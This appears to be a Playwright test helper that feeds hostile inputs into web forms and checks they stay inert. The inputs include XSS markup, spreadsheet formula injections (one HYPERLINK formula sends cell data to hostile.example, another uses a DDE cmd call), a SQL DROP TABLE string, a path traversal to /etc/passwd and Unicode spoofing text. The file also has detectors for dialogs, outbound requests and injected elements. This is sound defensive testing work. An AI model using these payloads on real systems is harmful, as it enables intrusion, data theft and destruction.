import { type Page, expect } from '@playwright/test';

/** Texts that must come out of every field as text, or not go in. */
export const HOSTILE: Record<string, string[]> = {
  markup: [
    '<script data-hostile>alert(1)</script>',
    '"><img data-hostile src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) data-hostile='",
    '</textarea></title></script><svg data-hostile onload=alert(1)>',
    '<a data-hostile href="javascript:alert(1)">x</a>',
    'javascript:alert(1)//',
    '&lt;b&gt; &amp;amp; &#x3C;',
    ']]><!-- <!--> --!>',
  ],
  formulas: [
    '=HYPERLINK("http://hostile.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '"a","=1+1"',
    "';DROP TABLE orders; --",
  ],
  templates: ['{{7*7}} ${7*7} <%= 7*7 %> #{7*7}', '{ $amount } { -brand } %s%n%x', '\\u003cb\\u003e \\x3cb\\x3e', '../../etc/passwd'],
  unicode: [
    'a\u202Egnp.exe',
    'a\u2066b\u2069c',
    'a\u200Bb\uFEFFc',
    '👩‍👩‍👧‍👦🇰🇷',
    'Z\u0351\u036B\u0343\u036A\u0302algo',
    'ﷺ İıſ ㄱㅏ 각 각',
    'a\u0000b\u0007c',
    // In every field of the longest form at once it is still a body that the shop reads.
    'ㅎ'.repeat(250),
  ],
};

/** A text as a page can show it: HTML knows no NUL. */
export const shown = (text: string) => text.replace(/[\0\uFFFD]/g, '').trim();

/** Sees whether any of it has become more than text. */
export class Canary {
  private readonly seen: string[] = [];

  constructor(private readonly page: Page) {
    page.on('dialog', (dialog) => {
      this.seen.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      const { hostname, pathname } = new URL(request.url());
      if (hostname === 'hostile.example' || pathname.endsWith('/x')) this.seen.push(`request: ${request.url()}`);
    });
  }

  async check() {
    expect(this.seen).toEqual([]);
    await expect(this.page.locator('[data-hostile]')).toHaveCount(0);
    expect((await this.page.context().cookies()).map((cookie) => cookie.name)).not.toContain('owned');
  }
}

/** The cells of a CSV file, row by row. */
export function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end !== ',') rows.push([]);
  }
  return rows.filter((row) => row.some((cell) => cell !== ''));
}

/** Whether a spreadsheet would take the cell for a formula. */
export const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d,.]+$/.test(cell);
